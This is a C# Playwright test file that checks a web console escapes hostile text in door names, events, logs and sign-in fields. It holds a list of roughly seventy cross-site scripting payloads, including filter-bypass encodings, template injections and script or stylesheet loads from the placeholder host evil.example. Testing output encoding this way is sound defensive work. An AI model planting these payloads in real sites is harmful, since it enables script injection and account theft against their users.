using System.Text.RegularExpressions;
using Bridge.Console.Books.Records;
using Bridge.Console.Books.Retention;
using Bridge.Console.Doors;
using Bridge.Console.Seats;
using Bridge.Console.SignIn;
using Bridge.Console.Tests.Hosting;
using Bridge.Console.Tests.Hosting.Books;
using Microsoft.Playwright;

namespace Bridge.Console.Tests;

/// <summary>
/// What somebody wrote who means harm is text wherever it is shown: a thousand writings of it, in every name that a page shows, in a real browser without the
/// content policy's help.
/// </summary>
public sealed partial class StoredTextTests(ITestOutputHelper output)
{
    // Ways out of text, of an attribute in either quotes, of a comment, of a title, of a script; and what they run.
    private static readonly string[] Openings = ["", "\"", "'", "\">", "'>", "-->", "</title>", "</script>", "</textarea>", "</bdi></strong>", "\u0000\">", "＂＞", "&quot;&gt;", "\\\"", "]]>", "</style>", "*/", "</svg>"];

    private static readonly string[] Acts =
    [
        "<script>pwn()</script>", "<ScRiPt>pwn()</sCrIpT>", "<script/x>pwn()</script>", "<img src=x onerror=pwn()>", "<img/src=x/onerror=pwn()>", "<svg onload=pwn()>", "<svg><script>pwn()</script></svg>",
        "<svg><animate onbegin=pwn() attributeName=x dur=1s>", "<body onload=pwn()>", "<iframe srcdoc='<script>parent.pwn()</script>'>", "<iframe src=javascript:parent.pwn()>", "<details open ontoggle=pwn()>",
        "<input autofocus onfocus=pwn()>", "<video><source onerror=pwn()></video>", "<audio src=x onerror=pwn()>", "<object data=javascript:pwn()>", "<embed src=javascript:pwn()>", "<form><button formaction=javascript:pwn() autofocus>",
        "<a href=javascript:pwn() autofocus onfocus=pwn()>x</a>", "<a href='data:text/html,<script>pwn()</script>'>x</a>", "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=javascript:pwn()'>", "<link rel=stylesheet href=//evil.example/x.css>",
        "<style>@import '//evil.example/x.css';</style>", "<style>*{background:url(//evil.example)}</style>", "<math><mtext><script>pwn()</script></mtext></math>", "<table background=javascript:pwn()>", "<marquee onstart=pwn()>",
        "<template><script>pwn()</script></template>", "<noscript><p title=\"</noscript><img src=x onerror=pwn()>\">", "<x onclick=pwn() style=position:fixed;inset:0>x</x>", "<img srcset=x onerror=pwn()>", "<select autofocus onfocus=pwn()>",
        "<textarea autofocus onfocus=pwn()>", "<keygen autofocus onfocus=pwn()>", "<isindex action=javascript:pwn()>", "<script src=//evil.example/x.js></script>", "<script src=data:text/javascript,pwn()></script>", "<img src=x onerror=&#112;wn()>",
        "<img src=x onerror=\u0070wn()>", "<svg/onload=pwn()//", "<<script>pwn()//<</script>", "<scr<script>ipt>pwn()</script>", "<%00script>pwn()</script>", "%3Cscript%3Epwn()%3C/script%3E", "&lt;script&gt;pwn()&lt;/script&gt;", "&#60;script&#62;pwn()&#60;/script&#62;",
        "\\u003cscript\\u003epwn()\\u003c/script\\u003e", "＜script＞pwn()＜/script＞", "{{constructor.constructor('pwn()')()}}", "${pwn()}", "#{pwn()}", "<%= pwn() %>", "javascript:pwn()", "\" onmouseover=pwn() autofocus onfocus=pwn() x=\"",
        "' onmouseover=pwn() autofocus onfocus=pwn() x='", "` onerror=pwn() `", "__proto__[innerHTML]=<img/src/onerror=pwn()>", "\u202e<img src=x onerror=pwn()>", "\u2028<img src=x onerror=pwn()>", "\ufeff<img src=x onerror=pwn()>",
        "<!--[if gte IE 4]><script>pwn()</script><![endif]-->", "<!--><img src=x onerror=pwn()>-->", "<![CDATA[<img src=x onerror=pwn()>]]>", "<?xml version='1.0'?><script>pwn()</script>", "@(pwn())", "@{pwn();}",
    ];

    private static CancellationToken Cancelled => TestContext.Current.CancellationToken;

    private static IReadOnlyList<string> Corpus { get; } = [.. from opening in Openings from act in Acts select opening + act];

    [Fact]
    public async Task IsTextInEveryViewOfTheDoors()
    {
        Assert.True(Corpus.Distinct().Count() >= 1000, $"{Corpus.Count}");
        var now = TimeProvider.System.GetUtcNow();
        var morning = Pictures.WithReaders(now);
        var picture = morning with
        {
            Site = new DisplayName(Corpus[0], Corpus[1]),
            Doors = [.. Corpus.Select((text, number) => morning.Doors[number % morning.Doors.Length] with { Id = $"d{number}", Name = new DisplayName(text, text) })],
            RecentEvents = [.. Corpus.Select((text, number) => new EventView(number, now, text, new DisplayName(text, text), text, text, text))],
            Readers = [.. Corpus.Take(100).Select((text, number) => morning.Readers[0] with { Id = text, Line = text })],
        };
        await using var host = await ConsoleHost.StartAsync(picture, Cancelled);
        foreach (var path in (string[])["/?lang=zh", "/?lang=en", "/readers?lang=en"])
        {
            await HarmlessAsync(host, path, path == "/readers?lang=en" ? 100 : Corpus.Count);
        }

        output.WriteLine($"{Corpus.Count} writings in the names of doors, events, reasons and readers, on three pages: all text");
    }

    [Fact]
    public async Task IsTextInTheNamesOfPeopleAndLobbies()
    {
        await using var host = await ConsoleHost.StartAsync(Pictures.Morning(TimeProvider.System.GetUtcNow()), Cancelled);
        host.SignIn.View = new SignInView(SignInStep.Post)
        {
            Person = string.Concat(Corpus),
            Posts = [.. Corpus.Select((text, number) => new PostChoice(number, SeatRole.GatePost, new DisplayName(text, text), false))],
        };
        await HarmlessAsync(host, "/sign-in?lang=en", Corpus.Count);
    }

    [Fact]
    public async Task IsTextInEveryBook()
    {
        await using var host = await BookHost.StartAsync(SeatRole.Auditor, Cancelled);
        var (row, entry) = (host.Records.Rows[0], host.Journal.Rows[0]);
        host.Records.Draw = now => BookPictures.Books(now) with { Estate = new DisplayName(Corpus[0], Corpus[1]) };
        host.Records.Rows =
        [
            .. Corpus.Select((text, number) => row with
            {
                Number = $"VL-202603-{number:d4}", Lobby = new DisplayName(text, text), Category = text, Author = text, Result = text, PaperSheet = text, Unit = text,
                Person = new CoveredPerson { Name = text, Organisation = text, Host = text, Purpose = text, Goods = text, Text = text, DocumentType = text },
            }),
        ];
        host.Records.WholeAtOnce = true;
        host.Journal.Rows = [.. Corpus.Take(50).Select((text, number) => entry with { Sequence = number, Kind = text, Door = new DisplayName(text, text), Correlation = text, Body = text })];
        host.Retention.Sheet = host.Retention.Sheet with { Wishes = [.. Corpus.Select((text, number) => new WishLine($"w-{number}", [text], ErasureReason.Request, text, entry.At))] };
        foreach (var (path, least) in (IReadOnlyList<(string, int)>)[("visitor-log", Corpus.Count), ("duty-log", Corpus.Count), ("journal", 50), ("retention", Corpus.Count)])
        {
            await HarmlessAsync(host.Console, $"/{path}?lang=en", least);
        }
    }

    /// <summary>What is in the address comes back as text, or not at all.</summary>
    [Fact]
    public async Task IsNothingWhenItComesInTheAddress()
    {
        await using var host = await ConsoleHost.StartAsync(Pictures.Morning(TimeProvider.System.GetUtcNow()), Cancelled);
        using var client = new HttpClient { BaseAddress = host.Address };
        foreach (var text in Corpus)
        {
            var escaped = Uri.EscapeDataString(text);
            var page = await client.GetStringAsync(new Uri($"/sign-in?lang={escaped}&then={escaped}&problem={escaped}", UriKind.Relative), Cancelled);

            // The form goes to where the page is: there, and only there, it is an address in an attribute.
            Assert.True(!Pwn().IsMatch(Action().Replace(page, "")), $"{text} came back");
        }
    }

    /// <summary>The browser itself would run it: a page that does not escape is found out.</summary>
    [Fact]
    public async Task WhatIsLookedForIsFound()
    {
        await using var browser = await Browser.StartAsync();
        await using var host = await ConsoleHost.StartAsync(Pictures.Morning(TimeProvider.System.GetUtcNow()), Cancelled);
        var page = await OpenAsync(browser, host, "/sign-in");
        var ran = 0;
        foreach (var act in Acts.Where(act => act.StartsWith('<')))
        {
            await page.EvaluateAsync("text => { const place = document.createElement('div'); document.body.append(place); place.append(document.createRange().createContextualFragment(text)); }", act);
        }

        await page.WaitForFunctionAsync("window.pwned > 10");
        ran = await page.EvaluateAsync<int>("window.pwned");
        output.WriteLine($"{ran} of the acts ran where they were put in as markup");
    }

    private static async Task HarmlessAsync(ConsoleHost host, string path, int least)
    {
        await using var browser = await Browser.StartAsync();
        var page = await OpenAsync(browser, host, path);
        // A book asks for its rows when its circuit stands.
        await page.WaitForFunctionAsync("document.querySelector('.book') === null || document.querySelector('.book-table tbody tr, .post-row') !== null");
        var shown = await page.EvaluateAsync<string>("document.body.textContent");
        Assert.True(Pwn().Count(shown) >= least, $"{path} shows {Pwn().Count(shown)} of {least}: the corpus is not there");
        Assert.Equal(0, await page.EvaluateAsync<int>("window.pwned"));
        Assert.Equal(0, await page.Locator("body script:not([src]), body img, iframe, object, embed, body style, video, audio, marquee, math, template, [onerror], [onload], [onfocus], [onclick], [srcdoc]").CountAsync());
        Assert.Equal(1, await page.Locator("base").CountAsync());
    }

    // The content policy is taken away: the pages have to hold without it.
    private static async Task<IPage> OpenAsync(Browser browser, ConsoleHost host, string path)
    {
        var page = await browser.OpenAsync(host.Address, new Screen(1366, 768, false, "en"), "/_content/Bridge.Console/icon.svg");
        await page.AddInitScriptAsync("window.pwned = 0; window.pwn = () => { window.pwned++; };");
        await page.RouteAsync("**/*", async route =>
        {
            var answer = await route.FetchAsync();
            var headers = answer.Headers.Where(header => header.Key != "content-security-policy").ToDictionary();
            await route.FulfillAsync(new RouteFulfillOptions { Response = answer, Headers = headers });
        });
        await page.GotoAsync(new Uri(host.Address, path).ToString(), new PageGotoOptions { WaitUntil = WaitUntilState.Load, Timeout = 60_000 });
        return page;
    }

    [GeneratedRegex(@"action=""[^""<>'\s]*""")]
    private static partial Regex Action();

    [GeneratedRegex(@"pwn\(\)|&#112;wn\(\)|evil\.example")]
    private static partial Regex Pwn();
}
